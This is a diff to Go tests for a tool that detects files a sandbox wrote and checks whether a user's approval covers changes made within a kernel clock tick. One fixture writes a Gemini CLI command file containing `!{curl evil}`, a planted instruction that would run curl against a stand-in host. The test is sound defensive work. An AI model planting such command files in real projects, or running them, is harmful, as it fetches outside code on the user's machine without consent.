@@ -81,7 +81,9 @@ func TestWhatASandboxCouldHaveWrittenIsFound(t *testing.T) {
 		t.Errorf("after the window closed, found %q, want %q", got, want)
 	}
 
-	// The user's yes covers what is there now, not what changes after.
+	// The user's yes covers what is there now, not what changes after,
+	// even at once: within the coarse clock's tick.
+	time.Sleep(2 * time.Duration(tick)) // the user reads the question
 	if err := tr.Accept(app); err != nil {
 		t.Fatal(err)
 	}
@@ -93,11 +95,34 @@ func TestWhatASandboxCouldHaveWrittenIsFound(t *testing.T) {
 		t.Fatal(err)
 	}
 	defer w2.Close()
-	time.Sleep(50 * time.Millisecond) // past the coarse clock's tick
 	write(t, filepath.Join(app, ".gemini", "commands", "x.toml"), `prompt = "!{curl evil}"`)
 	want = []string{filepath.Join(app, ".gemini", "commands", "x.toml"), filepath.Join(app, ".gemini"), filepath.Join(app, ".gemini", "commands")}
 	if got := changedFiles(t, tr, app, envs...); strings.Join(got, "\n") != strings.Join(want, "\n") {
 		t.Errorf("changed after the yes, found %q, want %q", got, want)
+	}
+}
+
+// The user's yes covers what changed before it, not what changed within
+// a tick of it: the kernel's coarse clock can date a change made just
+// after the yes before it.
+func TestTheYesCoversOnlyWhatChangedATickBefore(t *testing.T) {
+	yes := time.Now()
+	for _, c := range []struct {
+		changed time.Time
+		want    bool
+	}{
+		{yes.Add(-time.Second), true},
+		{yes.Add(-2 * time.Duration(tick)), true},
+		{yes.Add(-time.Duration(tick) / 2), false},
+		{yes, false},
+		{yes.Add(time.Millisecond), false},
+	} {
+		if got := covered(c.changed, yes); got != c.want {
+			t.Errorf("a change %v from the yes: covered %v, want %v", c.changed.Sub(yes), got, c.want)
+		}
+	}
+	if covered(yes, time.Time{}) {
+		t.Error("no yes covers a change")
 	}
 }
 
